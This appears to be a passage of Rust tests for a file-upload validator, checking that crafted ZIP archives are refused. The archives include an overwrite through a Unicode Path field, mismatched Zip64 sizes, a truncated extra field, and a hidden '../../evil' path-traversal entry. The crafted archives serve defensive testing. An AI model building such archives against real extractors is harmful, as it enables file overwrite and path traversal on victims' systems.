fn overwrite_through_a_central_unicode_path_duplicate_name_is_refused() {
    // Attack: two entries with distinct header names, the second carrying a
    // central Unicode Path field naming the first. The names pass the
    // duplicate check, yet an extractor that honours the field writes both
    // to `a.txt`: the inspected content is overwritten by the other.
    let zip = stored_zip_with_extras(&[
        ("a.txt", b"safe", Vec::new(), Vec::new()),
        ("b.txt", b"evil", Vec::new(), unicode_path_field(b"a.txt")),
    ]);
    assert_eq!(
        archive_refusal(&zip, &ArchiveLimits::default()),
        ArchiveErrorKind::Malformed
    );
}

#[test]
fn zip64_extra_field_is_refused_in_local_and_central_headers() {
    // Attack: a Zip64 extra field (0x0001) in a header whose 32-bit sizes
    // are not 0xFFFFFFFF. Readers that prefer the field take its sizes
    // (here a 4 GiB entry), so the inspected entry is not the extracted one.
    let big = 4 << 30;
    let local = stored_zip_with_extras(&[("a.txt", b"hello", zip64_field(big), Vec::new())]);
    assert_eq!(
        archive_refusal(&local, &ArchiveLimits::default()),
        ArchiveErrorKind::Zip64
    );
    let central = stored_zip_with_extras(&[("a.txt", b"hello", Vec::new(), zip64_field(big))]);
    assert_eq!(
        archive_refusal(&central, &ArchiveLimits::default()),
        ArchiveErrorKind::Zip64
    );
}

#[test]
fn truncated_local_extra_field_is_refused() {
    // A local extra field whose declared length runs past the extra area:
    // readers disagree on where the data starts.
    let mut field = 0x5455u16.to_le_bytes().to_vec(); // extended timestamp
    field.extend_from_slice(&u16le(9));
    field.extend_from_slice(&[1, 0, 0, 0]); // 4 of the 9 bytes declared
    let zip = stored_zip_with_extras(&[("a.txt", b"hello", field, Vec::new())]);
    assert_eq!(
        archive_refusal(&zip, &ArchiveLimits::default()),
        ArchiveErrorKind::Malformed
    );
}

#[test]
fn streamed_zip_with_data_descriptors_is_accepted() {
    // Writers that stream (sizes unknown up front) set flag bit 3, leave the
    // local sizes at zero and put them in a descriptor after the data; the
    // central directory has the real ones.
    let (stream, size) = deflate_zeros(10_000);
    let mut zip = local_header("streamed.bin", 8, 0, 0);
    zip[6] |= 1 << 3;
    zip.extend_from_slice(&stream);
    zip.extend_from_slice(b"PK\x07\x08\0\0\0\0");
    zip.extend_from_slice(&u32le(stream.len()));
    zip.extend_from_slice(&u32le(size));
    let directory_offset = zip.len();
    let mut central = central_header("streamed.bin", 8, stream.len(), size, 0);
    central[8] |= 1 << 3;
    zip.extend_from_slice(&central);
    zip.extend_from_slice(&end_record(1, central.len(), directory_offset));
    let summary = inspect_zip(&zip, &ArchiveLimits::default()).unwrap();
    assert_eq!(summary.total_bytes(), size as u64);
}

#[cfg(feature = "arbitrary")]
#[test]
fn arbitrary_metadata_drives_the_policy_without_panics() {
    // What a user's own fuzz target does with the `arbitrary` feature.
    use arbitrary::{Arbitrary, Unstructured};
    let policy = UploadPolicy::builder()
        .allow(FileType::Png)
        .allow(FileType::Zip)
        .allow(FileType::Text)
        .build()
        .unwrap();
    let mut seed = 0x2545_f491_4f6c_dd1du64;
    for _ in 0..2_000 {
        let bytes: Vec<u8> = (0..256)
            .map(|_| {
                seed ^= seed << 13;
                seed ^= seed >> 7;
                seed ^= seed << 17;
                seed.to_le_bytes()[0]
            })
            .collect();
        let mut input = Unstructured::new(&bytes);
        let metadata = UploadMetadata::arbitrary(&mut input).unwrap();
        let file_type = FileType::arbitrary(&mut input).unwrap();
        let body = input.take_rest();
        if let Ok(accepted) = policy.check(&metadata, body) {
            assert!(policy.allows(accepted.file_type()));
        }
        assert!(FileType::ALL.contains(&file_type));
    }
}

#[test]
fn local_header_hidden_between_entries_is_refused() {
    // Attack: a gap between two listed entries holds a local header for
    // `../../evil` that the central directory does not list: a checker that
    // goes by the central directory never sees it, a streaming extractor
    // (reading local headers in order) writes it.
    let mut zip = local_header("a.txt", 0, 1, 1);
    zip.push(b'a');
    let mut hidden = local_header("../../evil", 0, 4, 4);
    hidden.extend_from_slice(b"evil");
    zip.extend_from_slice(&hidden);
    let second = zip.len();
    zip.extend_from_slice(&local_header("b.txt", 0, 1, 1));
    zip.push(b'b');
    let directory_offset = zip.len();
    let mut directory = central_header("a.txt", 0, 1, 1, 0);
    directory.extend_from_slice(&central_header("b.txt", 0, 1, 1, second));
    zip.extend_from_slice(&directory);
    zip.extend_from_slice(&end_record(2, directory.len(), directory_offset));
    assert_eq!(
        archive_refusal(&zip, &ArchiveLimits::default()),
        ArchiveErrorKind::Malformed
    );
}
